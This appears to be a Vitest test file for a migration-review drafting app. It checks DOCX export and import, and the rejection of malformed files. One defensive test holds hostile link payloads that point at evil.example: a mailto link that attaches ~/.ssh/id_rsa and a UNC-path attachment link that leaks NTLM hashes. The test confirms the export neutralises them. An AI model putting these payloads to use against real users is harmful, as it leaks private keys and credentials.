import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { invoke } from '../main/dispatch';
import { createServices, type Services } from '../main/services';
import type { Doc, ListItem } from '../shared/doc';
import { docText } from '../shared/doc';
import { docToText } from '../shared/plaintext';
import { ARAB_REGION_2020, objectiveField, principleField, questions } from '../shared/template';
import { pack, zipText } from './bundle-tools';
import { cli, storeSnapshot, tempDir } from './helpers';
import { officeConvert } from './office';
import { emptyNote, noteFromText } from '../shared/note';

const norm = (s: string) => s.replace(/\s+/g, ' ').trim();
const t = (text: string, marks?: Array<{ type: 'bold' } | { type: 'italic' } | { type: 'link'; attrs: { href: string } }>) => (marks ? { type: 'text' as const, text, marks } : { type: 'text' as const, text });
const li = (text: string, ...rest: ListItem['content']): ListItem => ({ type: 'listItem', content: [{ type: 'paragraph', content: [t(text)] }, ...rest] });

/** A rich answer: bold, italic, a link, Arabic and English paragraphs, lists nested three deep. */
function answer(q: string, i: number): Doc {
  return {
    type: 'doc',
    content: [
      { type: 'paragraph', content: [t(`Answer to ${q}: the `), t('national plan', [{ type: 'bold' }]), t(' was adopted in '), t(`${2010 + i}`, [{ type: 'italic' }]), t('. See '), t('the report', [{ type: 'link', attrs: { href: `https://example.org/report/${i}` } }]), t('.')] },
      { type: 'paragraph', content: [t(`اعتمدت الحكومة الخطة الوطنية للهجرة رقم ${i} بالتشاور مع المجتمع المدني.`)] },
      {
        type: 'bulletList',
        content: [
          li(`Level one for ${q}`, { type: 'orderedList', content: [li(`Level two for ${q}`, { type: 'bulletList', content: [li(`Level three for ${q}`), li('تعزيز التعاون الإقليمي')] }), li('Second at level two')] }),
          li('Another item at level one'),
        ],
      },
      { type: 'paragraph', content: [t('Closing remark with '), t('bold italic', [{ type: 'bold' }, { type: 'italic' }]), t(' words.')] },
    ],
  };
}

async function fullDraft(s: Services): Promise<string> {
  const d = await invoke(s.handlers, 'createDraft', { title: 'Royaume du Maroc — examen national', country: 'Morocco' });
  const qs = questions(ARAB_REGION_2020);
  for (const [i, q] of qs.entries()) await invoke(s.handlers, 'saveField', { draftId: d.id, field: q.id, value: { kind: 'answer', doc: answer(q.id, i) }, baseRevisionId: null });
  await invoke(s.handlers, 'saveField', { draftId: d.id, field: objectiveField('III.a', 1), value: { kind: 'objective', status: 'achieved', note: 'National Migration Observatory since 2004.' }, baseRevisionId: null });
  await invoke(s.handlers, 'saveField', { draftId: d.id, field: objectiveField('III.a', 23), value: { kind: 'objective', status: 'in_progress', note: '' }, baseRevisionId: null });
  await invoke(s.handlers, 'saveField', { draftId: d.id, field: principleField('III.b', 'a'), value: { kind: 'principle', note: 'Migrants are at the centre of both strategies.' }, baseRevisionId: null });
  return d.id;
}

/** A zip of these entries, deflated (as Word writes them). */
const zipOf = (entries: Record<string, string | Buffer>) => pack(Object.entries(entries).map(([name, data]) => ({ name, data: Buffer.from(data), compress: true })));

let s: Services;
let draftId: string;
let docx: Buffer;
let dir: string;
let officeText: string;

beforeAll(async () => {
  // lives for the whole file (the helpers' temp dirs and services are cleaned after each test)
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gcm-docx-'));
  s = createServices(path.join(dir, 'store.sqlite'));
  draftId = await fullDraft(s);
  const r = await invoke(s.handlers, 'exportDocx', { draftId });
  docx = Buffer.from(r.dataBase64, 'base64');
  fs.writeFileSync(path.join(dir, 'review.docx'), docx);
  // LibreOffice opens it (slow: once per file), with a throwaway profile
  officeText = norm(fs.readFileSync(officeConvert(path.join(dir, 'review.docx'), 'txt:Text', 120_000), 'utf8'));
}, 180_000);
afterAll(() => {
  s.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('DOCX export', () => {
  it('opens in LibreOffice, and its text holds the title block, every question and every answer', () => {
    expect(officeText).toContain('Royaume du Maroc — examen national');
    expect(officeText).toContain('Country: Morocco');
    expect(officeText).toContain('First Regional Review of the Global Compact');
    expect(officeText).toMatch(/Date: \d{1,2} [A-Z][a-z]+ \d{4}/); // the date in words
    expect(officeText).not.toContain('arab-region-2020'); // internal details are document properties
    expect(officeText).toContain('Questions Answers');
    const d = s.drafts.get(draftId);
    for (const sec of ARAB_REGION_2020.sections) {
      expect(officeText).toContain(`${sec.id}. ${sec.title}`);
      for (const q of sec.questions) {
        expect(officeText).toContain(norm(`${q.label} ${q.text}`));
        const v = d.fields[q.id]!.value;
        for (const line of docText((v as { doc: Doc }).doc).split('\n')) expect(officeText, `${q.id}: ${line}`).toContain(norm(line));
      }
    }
    expect(officeText).toContain('National Migration Observatory since 2004.');
    expect(officeText).toContain('Migrants are at the centre of both strategies.');
  });

  it('writes real Word lists (numbering definitions, nested levels), bidi Arabic paragraphs and hyperlinks', async () => {
    const xml = await zipText(docx, 'word/document.xml');
    const numbering = await zipText(docx, 'word/numbering.xml');
    expect(numbering).toMatch(/<w:abstractNum /);
    expect(numbering).toContain('w:ilvl="2"');
    expect(numbering).toContain('w:val="bullet"');
    expect(numbering).toContain('w:val="decimal"');
    expect(xml).toMatch(/<w:ilvl w:val="2"\/>/); // third level used
    const arabicPara = xml.split('</w:p>').find((p) => p.includes('اعتمدت الحكومة'))!;
    expect(arabicPara).toContain('<w:bidi/>');
    expect(arabicPara).toContain('<w:rtl/>');
    const englishPara = xml.split('</w:p>').find((p) => p.includes('Closing remark'))!;
    expect(englishPara).not.toContain('<w:bidi/>');
    expect(xml).toContain('<w:hyperlink');
    expect(xml).toContain('w:name="gcm_II_c"'); // question bookmark
  });

  it('shows unanswered questions as such', async () => {
    const d = await invoke(s.handlers, 'createDraft', { title: 'Empty' });
    const r = await invoke(s.handlers, 'exportDocx', { draftId: d.id });
    const xml = await zipText(Buffer.from(r.dataBase64, 'base64'), 'word/document.xml');
    expect(xml.match(/Not answered/g)!.length).toBe(questions(ARAB_REGION_2020).length + ARAB_REGION_2020.principles.length);
  });

  it('writes as links, in Word and in print, only links the app would open: a mailto: with attach= or a web link with a user name stays text', async () => {
    // (some mail apps attach the named file, or fetch a UNC path and send the user's NTLM hash,
    // when such a mailto: link is followed; the answer schema keeps them, so a bundle can carry one)
    const links: Array<[string, string]> = [
      ['the plan', 'https://example.org/plan'],
      ['écrire', 'mailto:focal.point@ministry.gov.ma?subject=Examen'],
      ['envoyer', 'mailto:a@evil.example?attach=/home/user/.ssh/id_rsa'],
      ['ملف', 'mailto:a@evil.example?attachment=%5C%5Cevil.example%5Cshare%5Cx'],
      ['login', 'https://user@evil.example/'],
    ];
    const d = await invoke(s.handlers, 'createDraft', { title: 'Links', language: 'fr' });
    const doc: Doc = { type: 'doc', content: [{ type: 'paragraph', content: links.flatMap(([text, href]) => [t(`${text}`, [{ type: 'link', attrs: { href } }]), t(' ; ')]) }] };
    await invoke(s.handlers, 'saveField', { draftId: d.id, field: 'I.a', value: { kind: 'answer', doc }, baseRevisionId: null });
    const out = Buffer.from((await invoke(s.handlers, 'exportDocx', { draftId: d.id })).dataBase64, 'base64');
    const rels = await zipText(out, 'word/_rels/document.xml.rels');
    const xml = await zipText(out, 'word/document.xml');
    const html = (await invoke(s.handlers, 'renderPrintHtml', { draftId: d.id })).html;
    // the only parts Word would fetch or follow from outside the file are these hyperlinks (no
    // external template, picture or frame, which Word loads on opening: passed before too)
    const external = [...rels.matchAll(/<Relationship\b[^>]*TargetMode="External"[^>]*>/g)].map((m) => m[0]);
    expect(external.length).toBe(2);
    for (const r of external) expect(r).toMatch(/relationships\/hyperlink" Target="(https:|mailto:)/);
    for (const [text, href] of links) {
      const kept = !/attach|user@/.test(href);
      expect(rels.includes(href.replace(/&/g, '&amp;')), href).toBe(kept);
      expect(html.includes(`href="${href}"`), href).toBe(kept);
      expect(xml).toContain(text); // the words stay
      expect(html).toContain(text);
    }
  });
});

describe('DOCX import', () => {
  it('round-trips every answer: same text, same lists, same emphasis and links; objectives and principles too', async () => {
    const r = await invoke(s.handlers, 'importDocx', { dataBase64: docx.toString('base64'), fileName: 'review.docx' });
    expect(r.report.questionsFilled).toHaveLength(questions(ARAB_REGION_2020).length);
    expect(r.report.unplaced).toEqual([]);
    const a = s.drafts.get(draftId);
    const b = s.drafts.get(r.draft.id);
    for (const q of questions(ARAB_REGION_2020)) {
      const da = (a.fields[q.id]!.value as { doc: Doc }).doc;
      const db = (b.fields[q.id]!.value as { doc: Doc }).doc;
      expect(norm(docText(db)), q.id).toBe(norm(docText(da)));
      expect(docToText(db), q.id).toBe(docToText(da)); // list structure and nesting
      expect(db, q.id).toEqual(da); // marks and links as well
    }
    expect(b.fields[objectiveField('III.a', 1)]!.value).toEqual({ kind: 'objective', status: 'achieved', note: noteFromText('National Migration Observatory since 2004.') });
    expect(b.fields[objectiveField('III.a', 23)]!.value).toEqual({ kind: 'objective', status: 'in_progress', note: emptyNote() });
    expect(b.fields[principleField('III.b', 'a')]!.value).toEqual({ kind: 'principle', note: noteFromText('Migrants are at the centre of both strategies.') });
    expect(b.fields[principleField('III.b', 'b')]).toBeUndefined();
  });

  it('reads a Word table without bookmarks: by letter and text, split question cells, spilled answers, stray text to the tray', async () => {
    // Build a foreign-looking document by exporting, then stripping our bookmarks and styles.
    const { Document, Packer, Paragraph, Table, TableRow, TableCell, TextRun } = await import('docx');
    const row = (q: string, a: string[]) => new TableRow({ children: [new TableCell({ children: [new Paragraph(q)] }), new TableCell({ children: a.length ? a.map((x) => new Paragraph(x)) : [new Paragraph('')] })] });
    const doc = new Document({
      sections: [
        {
          children: [
            new Paragraph({ children: [new TextRun('Kingdom of Morocco — national review')] }),
            new Paragraph({ children: [new TextRun('I Questions on the methodology used to develop the national review of the Global Compact')] }),
            new Table({
              rows: [
                row('Questions', ['Answers']),
                row('b) If there was a specific mechanism in place, who was responsible', ['The Ministry of Foreign Affairs, in coordination with']),
                row('for the review?', ['the other relevant departments.']),
                row('c) Which government entities have been involved in the review process?', ['The Ministry of the Interior;', 'The Higher Planning Commission.']),
                row('', ['A closing remark about c.']),
              ],
            }),
          ],
        },
      ],
    });
    const bytes = await Packer.toBuffer(doc);
    const r = await invoke(s.handlers, 'importDocx', { dataBase64: bytes.toString('base64'), fileName: 'foreign.docx' });
    const d = s.drafts.get(r.draft.id);
    const text = (q: string) => docToText((d.fields[q]!.value as { doc: Doc }).doc);
    expect(text('I.b')).toBe('The Ministry of Foreign Affairs, in coordination with the other relevant departments.');
    expect(text('I.c')).toBe('The Ministry of the Interior;\n\nThe Higher Planning Commission.\n\nA closing remark about c.');
    expect(r.report.unplaced.map((u) => u.preview)).toEqual(['Kingdom of Morocco — national review']);
    expect(r.report.unplaced[0]!.reason).toBe('text before the first recognised question');
  });

  describe('refuses malformed files with a clear error and creates nothing', () => {
    const cases: Array<[string, () => Promise<Buffer>, RegExp]> = [
      ['not a zip', async () => Buffer.from([0x00, 0x01, 0x02, 0x03, 0xfe, 0x00, 0x10, 0x20, 0x30, 0x40, 0x50, 0x60, 0x70, 0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09]), /not a Word document \(\.docx\): the file is not a zip archive/],
      ['plain text', async () => Buffer.from('This is a plain text file, not a Word document.'), /^This is a plain text file, not a Word document\. Import it as text/],
      ['a zip without word/document.xml', () => zipOf({ 'notes.txt': 'hello', '[Content_Types].xml': '<Types/>' }), /the archive has no word\/document\.xml/],
      ['huge XML (over 40 MB uncompressed)', () => zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': Buffer.alloc(41 * 1024 * 1024, 0x20) }), /word\/document\.xml in the \.docx is larger than 40 MB uncompressed/],
      ['deeply nested XML', () => zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': `<w:document>${'<w:p>'.repeat(5000)}${'</w:p>'.repeat(5000)}</w:document>` }), /nested more than 256 levels deep/],
      ['a truncated zip', async () => docx.subarray(0, Math.floor(docx.length / 2)), /not a Word document|damaged/],
    ];
    for (const [name, make, message] of cases) {
      it(name, async () => {
        const before = storeSnapshot(s);
        const bytes = await make();
        await expect(invoke(s.handlers, 'importDocx', { dataBase64: bytes.toString('base64'), fileName: 'bad.docx' })).rejects.toMatchObject({ code: 'bad_file', message: expect.stringMatching(message) });
        expect(storeSnapshot(s)).toBe(before);
      });
    }

    it('through the CLI: exit 1, one line on stderr, nothing on stdout', async () => {
      const db = path.join(tempDir(), 'cli.sqlite');
      const f = path.join(tempDir(), 'x.docx');
      fs.writeFileSync(f, await zipOf({ 'a.txt': 'x' }));
      const r = await cli(db, 'import', 'docx', f);
      expect(r).toMatchObject({ code: 1, out: '' });
      expect(r.err.split('\n')).toHaveLength(1);
      expect(r.err).toMatch(/^error: not a Word document/);
      expect((await cli(db, 'draft', 'list')).out).toBe('');
    });
  });

  it('exports and imports through the CLI', async () => {
    const db = path.join(tempDir(), 'cli.sqlite');
    const t1 = path.join(tempDir(), 'a.txt');
    fs.writeFileSync(t1, 'b) If there was a specific mechanism in place, who was responsible for the review?\nThe Department of Global Affairs.\n');
    const id = (await cli(db, 'import', 'text', t1)).out;
    const out = path.join(tempDir(), 'out.docx');
    const e = await cli(db, 'export', 'docx', id.slice(0, 8), '--out', out);
    expect(e).toMatchObject({ code: 0, out });
    const i = await cli(db, 'import', 'docx', out, '--title', 'Back');
    expect(i.code).toBe(0);
    expect(i.err).toContain('1 of 23 questions filled (I.b)');
    expect((await cli(db, 'answer', 'get', i.out, 'I.b')).out).toBe('The Department of Global Affairs.');
  });
});
